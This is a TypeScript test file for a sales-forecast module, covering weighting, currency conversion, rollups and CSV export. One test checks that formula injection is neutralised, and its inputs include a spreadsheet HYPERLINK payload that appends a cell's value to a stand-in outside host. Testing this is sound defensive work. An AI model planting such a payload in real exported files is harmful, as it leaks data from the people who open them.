import { describe, expect, it } from 'vitest';
import { monthsBetween } from '../../shared/domain/calendar.js';
import { toReportingCurrency } from '../../shared/domain/money.js';
import { minorToMajor, toCsv } from '../../shared/exports/csv.js';
import { aggregateUpdates, rollupsOf } from '../../shared/forecast/aggregate-items.js';
import { type Cell, contributionDelta, contributions, primaryProductLine } from '../../shared/forecast/contribution.js';
import {
  buildForecast,
  closeProbability,
  type ForecastContext,
  MIN_HISTORY_SAMPLE,
  periodOf,
  readsRollups,
  stageProbability,
} from '../../shared/forecast/report.js';
import { defaultProgram } from '../../shared/schemas/setup.js';
import { stored } from './fixtures.js';

const program = { ...defaultProgram(), fxRates: { USD: 0.5, JPY: 0.0062 } };
const context = (stats: Record<string, { closed: number; won: number }> = {}): ForecastContext => ({
  program,
  regionOfCountry: (c) => (c === 'DE' ? 'dach' : 'unassigned'),
  tierOfDealer: (d) => (d === 'd1' ? 'gold' : 'bronze'),
  closeStat: (dealerId, stage) => stats[`${dealerId}#${stage}`],
});
const cell = (overrides: Partial<Cell>): Cell => ({
  month: '2031-01',
  productLine: 'milling',
  country: 'DE',
  dealerId: 'd1',
  stage: 'mid',
  currency: 'EUR',
  cohort: '2030-11',
  openCount: 1,
  pipeline: 10_000,
  wonCount: 0,
  won: 0,
  ...overrides,
});

describe('weighting', () => {
  it('uses the program stage probabilities, a deal without stage counting as early', () => {
    expect(stageProbability('early', program)).toBe(0.1);
    expect(stageProbability('mid', program)).toBe(0.4);
    expect(stageProbability('late', program)).toBe(0.7);
    expect(stageProbability('none', program)).toBe(0.1);
  });

  it("uses a dealer's own ratio from the minimum sample on, the stage probability below it", () => {
    const enough = { 'd1#late': { closed: MIN_HISTORY_SAMPLE, won: 3 } };
    expect(closeProbability({ dealerId: 'd1', stage: 'late' }, 'history', context(enough))).toBeCloseTo(0.3);
    const few = { 'd1#late': { closed: MIN_HISTORY_SAMPLE - 1, won: 9 } };
    expect(closeProbability({ dealerId: 'd1', stage: 'late' }, 'history', context(few))).toBe(0.7);
    expect(closeProbability({ dealerId: 'd1', stage: 'late' }, 'stage', context(enough))).toBe(0.7);
  });
});

describe('currency conversion', () => {
  it('converts minor units at the program rate and rounds', () => {
    expect(toReportingCurrency({ amount: 10_001, currency: 'USD' }, program)).toBe(5_001);
    expect(toReportingCurrency({ amount: 777, currency: 'EUR' }, program)).toBe(777);
    expect(toReportingCurrency({ amount: 1, currency: 'GBP' }, program)).toBeUndefined();
  });

  it('writes decimals with two places whatever the currency’s minor unit', () => {
    const written = (amount: number, currency: string) =>
      toCsv([{ key: 'v', header: 'v', decimals: 2 }], [{ v: minorToMajor(amount, currency) }]).split('\r\n')[1];
    expect(written(12_345, 'EUR')).toBe('123.45');
    expect(written(-5, 'EUR')).toBe('-0.05');
    expect(written(1_500, 'JPY')).toBe('1500.00');
    expect(written(9_999_999_999_999, 'EUR')).toBe('99999999999.99');
  });
});

describe('periods', () => {
  it('lists months across a year end and maps them to quarters', () => {
    expect(monthsBetween('2030-11', '2031-02')).toEqual(['2030-11', '2030-12', '2031-01', '2031-02']);
    expect(['2031-01', '2031-03', '2031-04', '2031-12'].map((m) => periodOf(m, 'quarter'))).toEqual([
      '2031-Q1',
      '2031-Q1',
      '2031-Q2',
      '2031-Q4',
    ]);
  });
});

describe('buildForecast', () => {
  it('groups, weights, converts and totals; empty months still get a row', () => {
    const cells = [
      cell({}),
      cell({ currency: 'USD', pipeline: 10_000, stage: 'late', dealerId: 'd2' }),
      cell({ month: '2031-03', openCount: 0, pipeline: 0, wonCount: 1, won: 8_000, country: 'FR' }),
      cell({ month: '2032-01' }),
    ];
    const monthly = buildForecast(
      cells,
      { from: '2031-01', to: '2031-03', period: 'month', dimensions: [], weighting: 'stage' },
      context(),
    );
    expect(monthly.rows).toEqual([
      { period: '2031-01', openCount: 2, pipelineValue: 15_000, weightedValue: 4_000 + 3_500, wonCount: 0, wonValue: 0 },
      { period: '2031-02', openCount: 0, pipelineValue: 0, weightedValue: 0, wonCount: 0, wonValue: 0 },
      { period: '2031-03', openCount: 0, pipelineValue: 0, weightedValue: 0, wonCount: 1, wonValue: 8_000 },
    ]);
    expect(monthly.totals).toEqual({ openCount: 2, pipelineValue: 15_000, weightedValue: 7_500, wonCount: 1, wonValue: 8_000 });
    const grouped = buildForecast(
      cells,
      { from: '2031-01', to: '2031-03', period: 'quarter', dimensions: ['region', 'tier'], weighting: 'stage' },
      context(),
    );
    expect(grouped.rows.map((r) => [r.period, r.region, r.tier, r.pipelineValue, r.wonValue])).toEqual([
      ['2031-Q1', 'dach', 'bronze', 5_000, 0],
      ['2031-Q1', 'dach', 'gold', 10_000, 0],
      ['2031-Q1', 'unassigned', 'gold', 0, 8_000],
    ]);
  });

  it('leaves out amounts it cannot convert, and says which currencies', () => {
    const result = buildForecast(
      [cell({ currency: 'GBP' })],
      { from: '2031-01', to: '2031-01', period: 'month', dimensions: [], weighting: 'stage' },
      context(),
    );
    expect(result.totals.pipelineValue).toBe(0);
    expect(result.unconvertibleCurrencies).toEqual(['GBP']);
  });
});

describe('rollups', () => {
  it('move with the cells in the same updates: summed over dealers and registration months, in the dealer’s shard', () => {
    const open = stored({ status: 'approved', stage: 'mid', forecastLine: 'pumps', expectedCloseDate: '2031-05-10' });
    const updates = aggregateUpdates(open, { ...open, stage: 'late' });
    const rollups = updates.filter((u) => u.name.startsWith('forecast-rollup:'));
    expect(rollups.map((u) => [u.key.SK, u.add.openCount, u.add.pipeline])).toEqual([
      ['pumps#DE#mid#EUR', -1, -40_000_000],
      ['pumps#DE#late#EUR', 1, 40_000_000],
    ]);
    const cellShard = updates.find((u) => u.name.startsWith('forecast:'))?.key.PK.split('#')[2];
    expect(rollups.every((u) => u.key.PK === `FORECASTROLLUP#2031-05#${cellShard}`)).toBe(true);
    expect(rollups[0]?.set).toMatchObject({ stage: 'mid', entity: 'forecast-rollup' });
    expect(rollups[0]?.set).not.toHaveProperty('dealerId');
  });

  it('give the stage-weighted report by product line and region the cells give; other reports read the cells', () => {
    const cells = [
      cell({}),
      cell({ cohort: '2030-12', pipeline: 5_000 }),
      cell({ dealerId: 'd2', pipeline: 2_000 }),
      cell({ dealerId: 'd3', stage: 'late', country: 'FR', currency: 'USD' }),
      cell({ dealerId: 'd4', openCount: 0, pipeline: 0, wonCount: 1, won: 7_000, productLine: 'turning' }),
    ];
    const rollups = rollupsOf(cells);
    expect(rollups.length).toBeLessThan(cells.length);
    for (const dimensions of [[], ['productLine'], ['productLine', 'region']] as const) {
      const request = {
        from: '2031-01',
        to: '2031-01',
        period: 'month' as const,
        dimensions: [...dimensions],
        weighting: 'stage' as const,
      };
      expect(readsRollups(request)).toBe(true);
      expect(buildForecast(rollups, request, context())).toEqual(buildForecast(cells, request, context()));
    }
    expect(readsRollups({ weighting: 'stage', dimensions: ['region', 'tier'] })).toBe(false);
    expect(readsRollups({ weighting: 'stage', dimensions: ['dealer'] })).toBe(false);
    expect(readsRollups({ weighting: 'history', dimensions: [] })).toBe(false);
    expect(readsRollups({ weighting: 'calibrated', dimensions: [] })).toBe(false);
  });
});

describe('contributions', () => {
  it('counts an open deal in its close month, a won one in its close-on month, nothing else', () => {
    const open = stored({ status: 'approved', expectedCloseDate: '2031-05-02', forecastLine: 'milling' });
    expect(contributions(open)).toEqual([
      expect.objectContaining({
        month: '2031-05',
        openCount: 1,
        pipeline: open.expectedValue.amount,
        cohort: open.submittedAt.slice(0, 7),
      }),
    ]);
    const won = {
      ...open,
      status: 'won' as const,
      outcome: { result: 'won' as const, closedOn: '2030-12-24', actualValue: { amount: 9, currency: 'USD' } },
    };
    expect(contributions(won)).toEqual([expect.objectContaining({ month: '2030-12', wonCount: 1, won: 9, currency: 'USD' })]);
    expect(contributions({ ...open, status: 'lost' })).toEqual([]);
  });

  it('moves a deal between cells and drops cells that do not change', () => {
    const before = stored({ status: 'submitted', expectedCloseDate: '2031-05-02', stage: 'mid' });
    const same = contributionDelta(before, { ...before, nextSteps: 'call' });
    expect(same).toEqual([]);
    const moved = contributionDelta(before, { ...before, expectedCloseDate: '2031-06-01' });
    expect(moved.map((c) => [c.month, c.openCount])).toEqual([
      ['2031-05', -1],
      ['2031-06', 1],
    ]);
  });

  it('attributes a deal to the product line with the most units', () => {
    const lineOf = (sku: string) => ({ A: 'milling', B: 'turning' })[sku];
    expect(
      primaryProductLine(
        {
          products: [
            { sku: 'A', quantity: 1 },
            { sku: 'B', quantity: 3 },
          ],
          productLines: [],
        },
        lineOf,
      ),
    ).toBe('turning');
    expect(
      primaryProductLine(
        {
          products: [
            { sku: 'B', quantity: 2 },
            { sku: 'A', quantity: 2 },
          ],
          productLines: [],
        },
        lineOf,
      ),
    ).toBe('milling');
  });
});

describe('CSV', () => {
  it('quotes per RFC 4180, ends lines with CRLF and starts with a BOM', () => {
    const csv = toCsv(
      [
        { key: 'name', header: 'name' },
        { key: 'n', header: 'n' },
      ],
      [{ name: 'Müller, "Söhne"', n: 2 }],
    );
    expect(csv).toBe('\uFEFFname,n\r\n"Müller, ""Söhne""",2\r\n');
  });

  it('neutralises formula cells in text, never in numbers', () => {
    const texts = ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', '\uFF1D1', '=HYPERLINK("http://x.example/?"&A1,"open")'];
    const csv = toCsv(
      [
        { key: 'text', header: 'text' },
        { key: 'amount', header: 'amount', decimals: 2 },
        { key: 'count', header: 'count' },
      ],
      texts.map((text) => ({ text, amount: -12.5, count: -3 })),
    );
    expect(csv.slice(1).split('\r\n').slice(1, -1)).toEqual([
      "'=1+1,-12.50,-3",
      "'+1,-12.50,-3",
      "'-1,-12.50,-3",
      "'@SUM(A1),-12.50,-3",
      "'\tx,-12.50,-3",
      `"'\rx",-12.50,-3`,
      "'\uFF1D1,-12.50,-3",
      `"'=HYPERLINK(""http://x.example/?""&A1,""open"")",-12.50,-3`,
    ]);
  });
});
